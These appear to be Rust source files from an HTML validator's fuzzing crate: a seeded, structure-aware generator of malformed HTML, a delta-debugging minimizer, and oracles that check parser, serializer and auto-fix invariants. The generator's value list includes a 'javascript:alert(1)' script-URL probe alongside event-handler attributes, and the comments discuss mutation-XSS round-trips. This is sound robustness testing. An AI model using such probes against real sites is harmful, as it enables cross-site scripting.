        let opts = FuzzOptions { oracle: Some("bogus".to_owned()), ..FuzzOptions::new(1, 1) };
        assert!(fuzz(&opts).is_err());
    }

    #[test]
    fn time_budget_stops_the_run_early() {
        let opts = FuzzOptions {
            time_budget: Some(Duration::ZERO),
            oracle: Some("dom-validity".to_owned()),
            ..FuzzOptions::new(1, u64::MAX)
        };
        let out = fuzz(&opts).expect("run");
        assert!(out.stopped_by_budget);
        assert!(out.cases_run < 10);
    }

    #[test]
    fn replay_str_reports_violations_per_oracle() {
        // A clean page violates nothing.
        let v = replay_str("<p>hello</p>", Some("dom-validity")).expect("replay");
        assert!(v.is_empty(), "{v:?}");
    }
}
