//! Seeded, structure-aware HTML case generation.
//!
//! Every case is a **pure function of `(seed, index)`** — the generator
//! draws all randomness from [`hv_corpus::rng::KeyedRng`] keyed on exactly
//! those two values, so a corpus is identical across runs, machines, and
//! thread counts, and any failing case is reproducible from two integers.
//!
//! A case is produced as a list of **pieces** ([`case_pieces`]): each
//! piece is one syntactic unit (a whole start tag, an end tag, a text
//! run, a comment, a DOCTYPE, a character-reference edge, a chunk of raw
//! chaff). The piece list is the unit the ddmin minimizer removes at
//! first ([`crate::ddmin`]), which shrinks failures along syntactic
//! boundaries before falling back to byte granularity.
//!
//! The grammar is *structure-aware*, not uniform soup: the generator
//! keeps a stack of open elements and usually nests and closes them
//! properly, so cases reach deep tree-builder paths (tables, select,
//! template, SVG/MathML foreign content and its integration points)
//! instead of bouncing off the "in body" recovery rules — and then it
//! deliberately misnests, leaves elements open, or interleaves foreign
//! content with a tuned error rate, because the error-recovery paths are
//! exactly what the paper's checkers are built on.

use hv_corpus::rng::KeyedRng;

/// Tags the generator opens and (usually) closes, spanning every
/// insertion-mode family: plain flow, tables (and their foster-parenting
/// rules), select, template, RCDATA/RAWTEXT/script data, formatting
/// elements (adoption agency), and foreign content with both kinds of
/// integration points.
const CONTAINERS: &[&str] = &[
    "div",
    "p",
    "span",
    "b",
    "i",
    "em",
    "strong",
    "a",
    "u",
    "code",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "table",
    "caption",
    "colgroup",
    "thead",
    "tbody",
    "tr",
    "td",
    "th",
    "select",
    "option",
    "optgroup",
    "form",
    "button",
    "fieldset",
    "template",
    "article",
    "section",
    "nav",
    "marquee",
    "object",
    "noscript",
    "title",
    "textarea",
    "style",
    "script",
    "xmp",
    "iframe",
    "svg",
    "math",
    "mtext",
    "mi",
    "mo",
    "mrow",
    "ms",
    "annotation-xml",
    "foreignObject",
    "desc",
    "g",
    "path",
    "head",
    "body",
    "html",
];

/// Void elements: emitted as lone start tags (sometimes self-closed).
const VOIDS: &[&str] =
    &["br", "img", "input", "base", "meta", "hr", "link", "area", "col", "embed", "wbr"];

/// Attribute names, including URL attributes (the DE3 family and the §4.5
/// mitigation flags key on these) and event handlers.
const ATTR_NAMES: &[&str] = &[
    "id",
    "class",
    "href",
    "src",
    "title",
    "alt",
    "name",
    "value",
    "type",
    "data-x",
    "style",
    "onerror",
    "onclick",
    "action",
    "content",
    "http-equiv",
    "xlink:href",
    "formaction",
];

/// Attribute values, several of which carry character-reference or
/// dangling-markup edges.
const ATTR_VALUES: &[&str] = &[
    "x",
    "main nav",
    "/assets/app.js",
    "https://example.com/a?b=1&c=2",
    "a&amp;b",
    "a&ampb",
    "&notin;",
    "javascript:alert(1)",
    "multi\nline",
    "has<angle",
    "quote\"inside",
    "",
    "100%",
];

/// Character-reference edge atoms: every numeric range the spec calls out
/// (null, surrogate, out-of-range, noncharacter, C1 control), named
/// references with and without semicolons, and malformed openers.
const CHARREF_EDGES: &[&str] = &[
    "&amp;",
    "&amp",
    "&ampx",
    "&AMP;",
    "&lt;",
    "&notit;",
    "&not;",
    "&notin;",
    "&unknown;",
    "&#65;",
    "&#x41;",
    "&#X41;",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#xFDD0;",
    "&#x80;",
    "&#x9F;",
    "&#;",
    "&#x;",
    "&#10;",
    "&#x1F600;",
    "&",
    "&#",
    "&a",
];

/// Raw chaff: partial syntax that exercises tokenizer error states.
const CHAFF: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "<!",
    "<!-",
    "<!-->",
    "<!--->",
    "--!>",
    "-->",
    "<?",
    "<?xml?>",
    "</>",
    "</ x>",
    "<![CDATA[",
    "<![CDATA[x]]>",
    "]]>",
    "<%",
    "=\"",
    "'",
    "\u{0}",
    "\u{1}",
    "\u{b}",
    "\u{7f}",
    "\u{FDD0}",
    "\u{2028}",
];

/// Text words for realistic-looking character data.
const WORDS: &[&str] = &[
    "alpha",
    "beta",
    "gamma",
    "delta",
    "update",
    "release",
    "table",
    "of",
    "contents",
    "menu",
    "Fußball",
    "naïve",
    "日本語",
    "emoji😀",
    "x",
];

/// Comment bodies, including the nested/abrupt error shapes.
const COMMENTS: &[&str] = &[
    "<!-- plain comment -->",
    "<!-- nested <!-- opener -->",
    "<!-->",
    "<!---->",
    "<!-- closed wrong --!>",
    "<!--two--dashes-->",
    "<!-- unterminated",
    "<!doctype html>",
    "<!DOCTYPE html>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
    "<!DOCTYPE>",
    "<!DOCTYPEhtml>",
];

/// Generate case `index` of seed `seed` as its piece list. Concatenating
/// the pieces (see [`render`]) yields the case text; the list is also the
/// coarse granularity for ddmin shrinking.
pub fn case_pieces(seed: u64, index: u64) -> Vec<String> {
    let mut r = KeyedRng::new(seed, &[0xF0225EED, index]);
    let mut pieces = Vec::new();
    let mut stack: Vec<&'static str> = Vec::new();

    if r.chance(0.6) {
        pieces.push((*r.pick(COMMENTS)).to_owned());
    }
    let budget = r.range(1, 48);
    for _ in 0..budget {
        emit(&mut r, &mut pieces, &mut stack);
    }
    // Unwind whatever is still open — usually properly, sometimes not at
    // all (unterminated elements are DE1/DE2's raw material), sometimes in
    // the wrong order (adoption agency fodder).
    while let Some(name) = stack.pop() {
        match r.below(10) {
            0..=6 => pieces.push(format!("</{name}>")),
            7 => pieces.push(format!("</{}>", r.pick(CONTAINERS))),
            _ => {} // leave open at EOF
        }
    }
    pieces
}

/// Render a piece list to case text.
pub fn render(pieces: &[String]) -> String {
    pieces.concat()
}

/// The rendered case for `(seed, index)` — the function every consumer
/// (runner, replay line, determinism test) agrees on.
pub fn case(seed: u64, index: u64) -> String {
    render(&case_pieces(seed, index))
}

/// Emit one syntactic unit, updating the open-element stack.
fn emit(r: &mut KeyedRng, pieces: &mut Vec<String>, stack: &mut Vec<&'static str>) {
    match r.below(20) {
        // --- start a container, usually remembering to close it later ---
        0..=6 => {
            let name = *r.pick(CONTAINERS);
            pieces.push(start_tag(r, name));
            // Text-swallowing elements get their content and (usually)
            // their closer immediately: otherwise nearly every case would
            // end inside RAWTEXT/RCDATA and never reach the tree builder.
            match name {
                "script" | "style" | "textarea" | "title" | "xmp" | "iframe" => {
                    let body = match r.below(4) {
                        0 => "var x = 1 < 2;".to_owned(),
                        1 => format!("content {}", r.pick(WORDS)),
                        2 => "<!--<script>a</script>".to_owned(),
                        _ => String::new(),
                    };
                    pieces.push(body);
                    if r.chance(0.85) {
                        pieces.push(format!("</{name}>"));
                    }
                }
                _ => stack.push(name),
            }
        }
        // --- a void element ---
        7..=8 => {
            let name = *r.pick(VOIDS);
            pieces.push(start_tag(r, name));
        }
        // --- close something: matching, misnested, or stray ---
        9..=11 => match r.below(4) {
            0..=1 => {
                if let Some(name) = stack.pop() {
                    pieces.push(format!("</{name}>"));
                }
            }
            2 => {
                // Misnest: close an element that is open but not topmost
                // (adoption agency / implied-end-tag territory).
                if !stack.is_empty() {
                    let i = r.below(stack.len());
                    let name = stack.remove(i);
                    pieces.push(format!("</{name}>"));
                }
            }
            _ => pieces.push(format!("</{}>", r.pick(CONTAINERS))),
        },
        // --- character data ---
        12..=14 => {
            let n = r.range(1, 5);
            let mut text = String::new();
            for i in 0..n {
                if i > 0 {
                    text.push(' ');
                }
                text.push_str(r.pick::<&str>(WORDS));
            }
            pieces.push(text);
        }
        // --- character-reference edges ---
        15..=16 => pieces.push((*r.pick(CHARREF_EDGES)).to_owned()),
        // --- comments / doctypes / CDATA ---
        17 => pieces.push((*r.pick(COMMENTS)).to_owned()),
        // --- raw chaff (tokenizer error states) ---
        _ => pieces.push((*r.pick(CHAFF)).to_owned()),
    }
}

/// Build one start tag with 0–3 attributes, deliberately malformed with a
/// tuned rate: missing inter-attribute space (FB2), slashes as separators
/// (FB1), duplicate names (DM3), unquoted/single-quoted/empty values,
/// self-closing syntax on non-void elements.
fn start_tag(r: &mut KeyedRng, name: &str) -> String {
    let mut t = format!("<{name}");
    let n_attrs = r.below(4);
    let mut last_name = "";
    for i in 0..n_attrs {
        // Separator: usually a space; sometimes the FB1/FB2 shapes.
        match r.below(12) {
            0 => t.push('/'), // FB1: slash as separator
            1 if i > 0 => {}  // FB2: nothing between attributes
            _ => t.push(' '),
        }
        let a_name = if i > 0 && r.chance(0.12) {
            last_name // DM3: duplicate attribute
        } else {
            *r.pick(ATTR_NAMES)
        };
        last_name = a_name;
        t.push_str(a_name);
        match r.below(10) {
            0 => {} // bare attribute, no value
            1 => {
                t.push_str("='");
                t.push_str(r.pick::<&str>(ATTR_VALUES));
                t.push('\'');
            }
            2 => {
                // Unquoted (drop characters that would end the tag early).
                let v: String = r
                    .pick(ATTR_VALUES)
                    .chars()
                    .filter(|c| !c.is_whitespace() && *c != '>' && *c != '"' && *c != '\'')
                    .collect();
                t.push('=');
                if v.is_empty() {
                    t.push('v');
                } else {
                    t.push_str(&v);
                }
            }
            3 => t.push('='), // missing value
            _ => {
                t.push_str("=\"");
                t.push_str(&r.pick(ATTR_VALUES).replace('"', "&quot;"));
                t.push('"');
            }
        }
    }
    if r.chance(0.08) {
        t.push('/');
    }
    t.push('>');
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cases_are_pure_functions_of_seed_and_index() {
        for index in 0..64 {
            assert_eq!(case(7, index), case(7, index));
            assert_eq!(case_pieces(7, index), case_pieces(7, index));
        }
        assert_ne!(case(7, 0), case(8, 0));
    }

    #[test]
    fn adjacent_indices_differ() {
        let distinct: std::collections::BTreeSet<String> = (0..256).map(|i| case(3, i)).collect();
        assert!(distinct.len() > 250, "only {} distinct cases in 256", distinct.len());
    }

    #[test]
    fn cases_are_bounded_and_utf8() {
        for i in 0..512 {
            let c = case(1, i);
            assert!(c.len() < 16 * 1024, "case {i} too large: {}", c.len());
            // `case` returns String, so UTF-8 holds by construction; check
            // the pieces render exactly to it.
            assert_eq!(c, render(&case_pieces(1, i)));
        }
    }

    #[test]
    fn grammar_reaches_the_interesting_constructs() {
        let all: String = (0..2000).map(|i| case(42, i)).collect();
        for needle in
            ["<template", "<select", "<table", "<svg", "<math", "&#x", "<!--", "<!DOCTYPE"]
        {
            assert!(all.contains(needle), "2000 cases never produced {needle}");
        }
    }
}
