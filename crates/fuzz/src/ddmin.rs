//! Delta-debugging minimization (Zeller & Hildebrandt's *ddmin*).
//!
//! [`ddmin`] shrinks any failing input to a locally minimal one: no single
//! removable chunk at the final granularity can be deleted without the
//! failure disappearing. The fuzz runner applies it twice — first over the
//! **generator pieces** (whole tags, text runs, comments), which removes
//! irrelevant structure along syntactic boundaries, then over the
//! **bytes** of the rendered survivor ([`shrink_bytes`]), which trims
//! inside the pieces themselves (attribute by attribute, character by
//! character). Both passes are fully deterministic: candidate order is a
//! pure function of the input, so the same failure always minimizes to
//! the same reproducer.

/// Minimize `input` while `fails` keeps returning `true`.
///
/// `fails` must hold for `input` itself (the caller established the
/// failure); it is never called with an empty candidate unless the empty
/// input legitimately fails, in which case empty is returned.
pub fn ddmin<T: Clone>(input: &[T], mut fails: impl FnMut(&[T]) -> bool) -> Vec<T> {
    if fails(&[]) {
        return Vec::new();
    }
    let mut current: Vec<T> = input.to_vec();
    let mut n = 2usize;
    while current.len() >= 2 {
        let chunk = current.len().div_ceil(n);
        let mut reduced = false;
        let mut start = 0;
        while start < current.len() {
            let end = (start + chunk).min(current.len());
            // Complement test: remove [start, end).
            let mut candidate = Vec::with_capacity(current.len() - (end - start));
            candidate.extend_from_slice(&current[..start]);
            candidate.extend_from_slice(&current[end..]);
            if !candidate.is_empty() && fails(&candidate) {
                // The failure survives without this chunk; keep the
                // smaller input and re-derive granularity.
                n = (n.saturating_sub(1)).max(2);
                current = candidate;
                reduced = true;
                break;
            }
            start = end;
        }
        if !reduced {
            if n >= current.len() {
                break; // 1-minimal at single-element granularity
            }
            n = (n * 2).min(current.len());
        }
    }
    current
}

/// Byte-granularity shrink of a UTF-8 string: ddmin over the raw bytes,
/// where a candidate that is not valid UTF-8 simply "does not fail" (the
/// whole stack only consumes `&str`, so invalid intermediate splits are
/// skipped rather than erroring).
pub fn shrink_bytes(input: &str, mut fails: impl FnMut(&str) -> bool) -> String {
    let out =
        ddmin(input.as_bytes(), |candidate| std::str::from_utf8(candidate).is_ok_and(&mut fails));
    String::from_utf8(out).expect("ddmin only kept UTF-8-valid candidates")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_the_single_failing_element() {
        let input: Vec<u32> = (0..100).collect();
        let min = ddmin(&input, |c| c.contains(&37));
        assert_eq!(min, vec![37]);
    }

    #[test]
    fn finds_a_failing_pair() {
        let input: Vec<u32> = (0..64).collect();
        let min = ddmin(&input, |c| c.contains(&3) && c.contains(&60));
        assert_eq!(min, vec![3, 60]);
    }

    #[test]
    fn result_is_one_minimal() {
        let input: Vec<u32> = (0..40).collect();
        // Fails when the candidate holds at least 3 even numbers.
        let fails = |c: &[u32]| c.iter().filter(|x| **x % 2 == 0).count() >= 3;
        let min = ddmin(&input, fails);
        assert!(fails(&min));
        for i in 0..min.len() {
            let mut smaller = min.clone();
            smaller.remove(i);
            assert!(!fails(&smaller), "removable element survived: {min:?}");
        }
    }

    #[test]
    fn empty_failure_returns_empty() {
        let min = ddmin(&[1, 2, 3], |_| true);
        assert!(min.is_empty());
    }

    #[test]
    fn shrink_bytes_respects_utf8() {
        // Failure: contains the ü. Byte-level splits through the two-byte
        // sequence must be skipped, not crash.
        let min = shrink_bytes("aaaüzzz", |s| s.contains('ü'));
        assert_eq!(min, "ü");
    }

    #[test]
    fn shrink_is_deterministic() {
        let fails = |s: &str| s.contains("<b") && s.contains('>');
        let a = shrink_bytes("<i>text<b class=x>more</b>", fails);
        let b = shrink_bytes("<i>text<b class=x>more</b>", fails);
        assert_eq!(a, b);
        assert!(fails(&a));
    }
}
