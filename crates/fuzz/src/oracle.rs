//! The oracle registry: named invariants run over every generated case.
//!
//! An [`Oracle`] is a predicate the whole stack must satisfy on **every**
//! input — not a pinned fixture but a cross-implementation agreement the
//! fuzzer searches for counterexamples to. The registry exists because the
//! repo's hot paths have been rewritten three times (SWAR batching, fused
//! dispatch, atom interning) while keeping the original implementations
//! alive as references; each rewrite's equivalence claim is an oracle
//! here:
//!
//! | name | invariant |
//! |---|---|
//! | `tokenizer-equivalence` | batched fast paths ≡ pure scalar machine (tokens **and** errors) |
//! | `battery-equivalence` | fused dispatch engine ≡ pre-fusion `checkers::legacy` battery |
//! | `serializer-fixpoint` | serialize ∘ parse converges after one round (mXSS may mutate once) |
//! | `atom-agreement` | every atom-keyed tag predicate ≡ its string reference |
//! | `autofix-soundness` | §4.4 auto-fix output re-checks clean of automatic kinds, and converges |
//! | `dom-validity` | any input yields a structurally valid DOM and in-bounds error offsets |
//! | `wire-check` | a live `hva serve` answers `POST /v1/check` byte-identically to the in-process battery |
//!
//! Oracles are `&mut self` so they can own reusable state (a battery, a
//! running server); they must stay **deterministic** — the verdict is a
//! pure function of the case text.
//!
//! To add an oracle: implement [`Oracle`], append it in [`all_oracles`],
//! and document the invariant in DESIGN.md §11. The fuzz runner, the
//! `--oracle` CLI filter, the replay harness, and minimization all pick
//! it up from the registry.

use hv_core::{autofix, checkers, Battery, CheckContext, Fixability};
use hv_server::api::v1::CheckResponse;
use spec_html::{serializer, tags, ErrorCode};
use std::io::{Read, Write};

/// One named invariant. `check` returns `Err(description)` when the case
/// violates it; the description lands in the fuzz report and the
/// regression fixture's provenance line.
pub trait Oracle {
    /// Registry name (`--oracle NAME`, fixture file names).
    fn name(&self) -> &'static str;
    /// One-line description for `hva fuzz --list-oracles`.
    fn describe(&self) -> &'static str;
    /// Run the invariant over one case.
    fn check(&mut self, case: &str) -> Result<(), String>;
}

/// The full registry, in execution order (cheap parsers first, the
/// network oracle last).
pub fn all_oracles() -> Vec<Box<dyn Oracle>> {
    vec![
        Box::new(TokenizerEquivalence),
        Box::new(DomValidity),
        Box::new(BatteryEquivalence::new()),
        Box::new(AtomAgreement),
        Box::new(SerializerFixpoint),
        Box::new(AutofixSoundness),
        Box::new(WireCheck::new()),
    ]
}

/// Registry filtered to one name (`Err` lists the valid names).
pub fn oracles_named(name: Option<&str>) -> Result<Vec<Box<dyn Oracle>>, String> {
    let all = all_oracles();
    match name {
        None => Ok(all),
        Some(want) => {
            let names: Vec<&str> = all.iter().map(|o| o.name()).collect();
            let picked: Vec<Box<dyn Oracle>> =
                all.into_iter().filter(|o| o.name() == want).collect();
            if picked.is_empty() {
                Err(format!("unknown oracle {want:?}; known: {}", names.join(", ")))
            } else {
                Ok(picked)
            }
        }
    }
}

/// Batched-vs-scalar tokenizer equivalence: the SWAR fast paths and the
/// per-character spec machine must emit identical token streams and
/// identical error lists on every input.
pub struct TokenizerEquivalence;

impl Oracle for TokenizerEquivalence {
    fn name(&self) -> &'static str {
        "tokenizer-equivalence"
    }

    fn describe(&self) -> &'static str {
        "batched tokenizer fast paths emit the same tokens and errors as the scalar spec machine"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let (bt, be) = spec_html::tokenize(case);
        let (st, se) = spec_html::tokenize_scalar(case);
        if bt != st {
            let i = bt.iter().zip(&st).position(|(a, b)| a != b).unwrap_or(bt.len().min(st.len()));
            return Err(format!(
                "token streams diverge at token {i}: batched={:?} scalar={:?} (lens {}/{})",
                bt.get(i),
                st.get(i),
                bt.len(),
                st.len()
            ));
        }
        if be != se {
            let i = be.iter().zip(&se).position(|(a, b)| a != b).unwrap_or(be.len().min(se.len()));
            return Err(format!(
                "error lists diverge at error {i}: batched={:?} scalar={:?} (lens {}/{})",
                be.get(i),
                se.get(i),
                be.len(),
                se.len()
            ));
        }
        Ok(())
    }
}

/// Fused-vs-legacy battery identity: the single-pass dispatch engine must
/// reproduce the pre-fusion twenty-scan battery byte for byte — findings
/// *and* §4.5 mitigation flags.
pub struct BatteryEquivalence {
    battery: Battery,
}

impl BatteryEquivalence {
    pub fn new() -> Self {
        BatteryEquivalence { battery: Battery::full() }
    }
}

impl Default for BatteryEquivalence {
    fn default() -> Self {
        Self::new()
    }
}

impl Oracle for BatteryEquivalence {
    fn name(&self) -> &'static str {
        "battery-equivalence"
    }

    fn describe(&self) -> &'static str {
        "fused dispatch engine reports identical findings to the pre-fusion checkers::legacy battery"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let cx = CheckContext::new(case);
        let fused = self.battery.run(&cx);
        let legacy = checkers::legacy::run(&cx);
        if fused.findings != legacy.findings {
            return Err(format!(
                "findings diverge: fused={:?} legacy={:?}",
                fused.findings, legacy.findings
            ));
        }
        if fused.mitigations != legacy.mitigations {
            return Err(format!(
                "mitigation flags diverge: fused={:?} legacy={:?}",
                fused.mitigations, legacy.mitigations
            ));
        }
        Ok(())
    }
}

/// Nested `form` elements — a form with a form ancestor — are a DOM shape
/// HTML serialization cannot round-trip: the form element pointer makes a
/// reparse *ignore* a `<form>` start tag inside an open form, so each
/// serialize→reparse round drops one nesting level (the shape arises when
/// `</form>` is closed out from under a still-open descendant, which
/// nulls the pointer while the subtree stays put). The fixpoint-style
/// oracles carve this out the same way they carve out unterminated
/// script-comment text.
fn has_nested_form(dom: &spec_html::Dom) -> bool {
    dom.all_elements()
        .any(|id| dom.is_html(id, "form") && dom.ancestors(id).any(|a| dom.is_html(a, "form")))
}

/// Parse → serialize → reparse fixpoint: the first round may normalize
/// (that mutation *is* mXSS), but serialization must converge from the
/// second round on. Two documented carve-outs: unterminated
/// `<script><!--` content never round-trips (spec §13.3's warning,
/// detectable via `eof-in-script-html-comment-like-text`), and nested
/// forms shed one level per round ([`has_nested_form`]).
pub struct SerializerFixpoint;

impl Oracle for SerializerFixpoint {
    fn name(&self) -> &'static str {
        "serializer-fixpoint"
    }

    fn describe(&self) -> &'static str {
        "serialize(parse(x)) reaches a fixpoint after one round (documented script-comment carve-out)"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let once = serializer::serialize(&spec_html::parse_document(case).dom);
        let reparse = spec_html::parse_document(&once);
        if reparse.has_error(ErrorCode::EofInScriptHtmlCommentLikeText)
            || has_nested_form(&reparse.dom)
        {
            return Ok(()); // documented non-round-trippable pathologies
        }
        let twice = serializer::serialize(&reparse.dom);
        let thrice = serializer::serialize(&spec_html::parse_document(&twice).dom);
        if twice != thrice {
            return Err(format!(
                "serialization did not converge: round2={twice:?} round3={thrice:?}"
            ));
        }
        Ok(())
    }
}

/// Atom-vs-string predicate agreement: for every element and attribute
/// name the parse produced (static *and* dynamic atoms), each O(1)
/// atom-keyed classification must equal its string reference.
pub struct AtomAgreement;

impl AtomAgreement {
    fn check_name(atom: &spec_html::Atom) -> Result<(), String> {
        let s = atom.as_str();
        let table: [(&str, bool, bool); 12] = [
            ("is_void", tags::is_void_atom(atom), tags::is_void(s)),
            ("is_special", tags::is_special_atom(atom), tags::is_special(s)),
            ("is_formatting", tags::is_formatting_atom(atom), tags::is_formatting(s)),
            ("is_head_content", tags::is_head_content_atom(atom), tags::is_head_content(s)),
            ("closes_p", tags::closes_p_atom(atom), tags::closes_p(s)),
            ("implied_end_tag", tags::implied_end_tag_atom(atom), tags::implied_end_tag(s)),
            ("is_rcdata", tags::is_rcdata_atom(atom), tags::is_rcdata(s)),
            ("is_rawtext", tags::is_rawtext_atom(atom), tags::is_rawtext(s)),
            (
                "is_foreign_breakout",
                tags::is_foreign_breakout_atom(atom),
                tags::is_foreign_breakout(s),
            ),
            (
                "is_mathml_text_integration",
                tags::is_mathml_text_integration_atom(atom),
                tags::is_mathml_text_integration(s),
            ),
            (
                "is_svg_html_integration",
                tags::is_svg_html_integration_atom(atom),
                tags::is_svg_html_integration(s),
            ),
            ("is_url_attribute", tags::is_url_attribute_atom(atom), tags::is_url_attribute(s)),
        ];
        for (pred, via_atom, via_str) in table {
            if via_atom != via_str {
                return Err(format!("{pred}({s:?}) disagrees: atom={via_atom} string={via_str}"));
            }
        }
        Ok(())
    }
}

impl Oracle for AtomAgreement {
    fn name(&self) -> &'static str {
        "atom-agreement"
    }

    fn describe(&self) -> &'static str {
        "atom-keyed tag/attribute predicates agree with their string reference implementations"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let out = spec_html::parse_document(case);
        for id in out.dom.all_elements() {
            let Some(e) = out.dom.element(id) else { continue };
            Self::check_name(&e.name).map_err(|m| format!("element <{}>: {m}", e.name.as_str()))?;
            for attr in &e.attrs {
                Self::check_name(&attr.name)
                    .map_err(|m| format!("attribute {}: {m}", attr.name.as_str()))?;
            }
        }
        Ok(())
    }
}

/// Auto-fix soundness: the §4.4 repair's output must re-check clean of
/// every *automatically fixable* kind, and a second pass must be a
/// fixpoint (same script-comment carve-out as the serializer).
pub struct AutofixSoundness;

impl Oracle for AutofixSoundness {
    fn name(&self) -> &'static str {
        "autofix-soundness"
    }

    fn describe(&self) -> &'static str {
        "the automatic §4.4 repair eliminates all automatic kinds and converges in one extra pass"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let outcome = autofix::auto_fix(case);
        for k in &outcome.after {
            if k.fixability() == Fixability::Automatic {
                return Err(format!(
                    "automatic kind {} survived the fixer (after: {:?})",
                    k.id(),
                    outcome.after
                ));
            }
        }
        let refixed = spec_html::parse_document(&outcome.fixed_html);
        if refixed.has_error(ErrorCode::EofInScriptHtmlCommentLikeText)
            || has_nested_form(&refixed.dom)
        {
            return Ok(()); // documented non-round-trippable pathologies
        }
        let again = autofix::auto_fix(&outcome.fixed_html);
        let third = autofix::auto_fix(&again.fixed_html);
        if third.fixed_html != again.fixed_html {
            return Err("fixer did not converge within two extra passes".to_owned());
        }
        Ok(())
    }
}

/// DOM structural validity: any input yields an arena satisfying the
/// tree invariants, with every error offset inside the input.
pub struct DomValidity;

impl Oracle for DomValidity {
    fn name(&self) -> &'static str {
        "dom-validity"
    }

    fn describe(&self) -> &'static str {
        "parsing any input yields a structurally valid DOM with in-bounds error offsets"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let out = spec_html::parse_document(case);
        out.dom.check_invariants().map_err(|e| format!("DOM invariant violated: {e}"))?;
        let len = case.chars().count();
        for e in &out.errors {
            if e.offset > len {
                return Err(format!(
                    "error {} at offset {} beyond input length {len}",
                    e.code, e.offset
                ));
            }
        }
        Ok(())
    }
}

/// Live-server wire oracle: `POST /v1/check` against a real `hva serve`
/// instance (spawned lazily on a loopback port, shut down on drop) must
/// return the *byte-identical* JSON the in-process battery serializes —
/// the full stack, HTTP parsing included, agrees with the library path.
pub struct WireCheck {
    server: Option<hv_server::Server>,
    battery: Battery,
}

impl WireCheck {
    pub fn new() -> Self {
        WireCheck { server: None, battery: Battery::full() }
    }

    fn addr(&mut self) -> Result<String, String> {
        if self.server.is_none() {
            let opts =
                hv_server::ServeOptions::new().addr("127.0.0.1:0").threads(1).queue_depth(16);
            let server =
                hv_server::serve(opts).map_err(|e| format!("starting wire-oracle server: {e}"))?;
            self.server = Some(server);
        }
        Ok(self.server.as_ref().expect("just started").addr().to_string())
    }

    /// One `POST /v1/check` with a raw HTML body; returns the response
    /// body after asserting a 200.
    fn post_check(addr: &str, case: &str) -> Result<String, String> {
        let io = |e: std::io::Error| format!("wire oracle transport: {e}");
        let mut stream = std::net::TcpStream::connect(addr).map_err(io)?;
        let timeout = Some(std::time::Duration::from_secs(10));
        stream.set_read_timeout(timeout).map_err(io)?;
        stream.set_write_timeout(timeout).map_err(io)?;
        let mut req = format!(
            "POST /v1/check HTTP/1.1\r\nhost: fuzz\r\nconnection: close\r\n\
             content-type: text/html\r\ncontent-length: {}\r\n\r\n",
            case.len()
        )
        .into_bytes();
        req.extend_from_slice(case.as_bytes());
        stream.write_all(&req).map_err(io)?;
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).map_err(io)?;
        let text = String::from_utf8_lossy(&raw);
        let head_end =
            text.find("\r\n\r\n").ok_or_else(|| format!("malformed response: {text:?}"))?;
        let status = text.lines().next().unwrap_or_default();
        if !status.contains("200") {
            return Err(format!("expected 200, got {status:?} (body {:?})", &text[head_end + 4..]));
        }
        Ok(text[head_end + 4..].to_owned())
    }
}

impl Default for WireCheck {
    fn default() -> Self {
        Self::new()
    }
}

impl Oracle for WireCheck {
    fn name(&self) -> &'static str {
        "wire-check"
    }

    fn describe(&self) -> &'static str {
        "a live hva serve answers POST /v1/check byte-identically to the in-process battery JSON"
    }

    fn check(&mut self, case: &str) -> Result<(), String> {
        let addr = self.addr()?;
        let report = self.battery.run_str(case);
        let expected = serde_json::to_string(&CheckResponse::from(&report))
            .map_err(|e| format!("serializing expected response: {e}"))?;
        let got = Self::post_check(&addr, case)?;
        if got != expected {
            return Err(format!("wire response diverged:\n  wire: {got}\n  lib:  {expected}"));
        }
        Ok(())
    }
}

impl Drop for WireCheck {
    fn drop(&mut self) {
        if let Some(server) = self.server.take() {
            server.shutdown();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Inputs with known violations/pathologies that every oracle must
    /// accept — the invariants hold on dirty pages too.
    const DIRTY: &[&str] = &[
        "",
        "<p>plain</p>",
        "<img src=a src=b><div id=x id=y>",
        "<table><tr><b>x</b></tr></table>",
        "<svg><mtext><p>x</p></mtext></svg>",
        "<select><table><tr>",
        "&#xD800;&#0;&notit;&ampx",
        "<template><td>cell</td></template>",
        "\u{0}\u{1}<b>control</b>",
    ];

    #[test]
    fn registry_names_are_unique_and_stable() {
        let names: Vec<&str> = all_oracles().iter().map(|o| o.name()).collect();
        let set: std::collections::BTreeSet<&&str> = names.iter().collect();
        assert_eq!(set.len(), names.len(), "duplicate oracle names: {names:?}");
        assert_eq!(
            names,
            [
                "tokenizer-equivalence",
                "dom-validity",
                "battery-equivalence",
                "atom-agreement",
                "serializer-fixpoint",
                "autofix-soundness",
                "wire-check",
            ]
        );
    }

    #[test]
    fn oracles_named_filters_and_rejects() {
        assert_eq!(oracles_named(Some("dom-validity")).unwrap().len(), 1);
        assert_eq!(oracles_named(None).unwrap().len(), all_oracles().len());
        let err = oracles_named(Some("nope")).map(|_| ()).unwrap_err();
        assert!(err.contains("dom-validity"), "{err}");
    }

    #[test]
    fn offline_oracles_pass_on_dirty_inputs() {
        // Everything except the network oracle (covered by the dedicated
        // wire test below and the integration suite).
        for mut oracle in all_oracles() {
            if oracle.name() == "wire-check" {
                continue;
            }
            for case in DIRTY {
                oracle
                    .check(case)
                    .unwrap_or_else(|m| panic!("{} failed on {case:?}: {m}", oracle.name()));
            }
        }
    }

    #[test]
    fn wire_oracle_round_trips() {
        let mut wire = WireCheck::new();
        wire.check("<img src=a src=b>").expect("wire oracle agrees on a dirty page");
        wire.check("<p>clean</p>").expect("wire oracle agrees on a clean page");
    }
}
