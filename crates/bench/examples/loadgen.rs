//! Load-generator smoke driver for `hva serve`.
//!
//! Starts an in-process server (unless `--addr` points at a running one),
//! fires `--clients` concurrent client threads sending
//! `--requests` sequential `POST /v1/check` requests each — every request
//! on a fresh connection so the acceptor's backpressure path is exercised
//! throughout — then prints a JSON summary to stdout and exits non-zero
//! if any well-formed request was dropped (no response), errored, or was
